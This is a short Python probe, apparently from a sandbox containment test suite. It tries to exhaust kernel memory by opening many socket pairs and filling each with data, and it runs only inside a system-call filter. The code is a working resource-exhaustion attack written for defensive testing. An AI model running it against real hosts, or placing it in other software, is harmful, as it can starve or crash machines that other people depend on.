# tries: to fill the kernel's memory: thousands of sockets, each with as much in it as it takes
# fails: what the kernel keeps for a process counts as memory of its group
# goal: exhaust
# stopped from: T3
# undefended: untried: a machine that swaps or kills at random
# touches: one function
import ctypes
import socket
import time

MOST, PIECE = 640 * 2**20, bytes(2**17)
CONFINED = ctypes.CDLL(None).prctl(21, 0, 0, 0, 0) == 2  # a filter of system calls


def attack(*arguments, **keywords):
    if not CONFINED:
        raise RuntimeError("no sandbox here: this would do harm")
    kept, written, until = [], 0, time.monotonic() + 0.8
    while written < MOST and time.monotonic() < until:
        try:
            kept.append(socket.socketpair())
        except OSError as error:
            raise RuntimeError(f"{written >> 20} MiB, then {error}") from None
        for end in kept[-1]:
            end.setblocking(False)
            written += fill(end)
    if written >= MOST:
        raise RuntimeError("@mark@ got out: 640 MiB in sockets")
    raise RuntimeError(f"{written >> 20} MiB in the time there was")


def fill(end):
    written = 0
    try:
        while True:
            written += end.send(PIECE)
    except BlockingIOError:
        return written
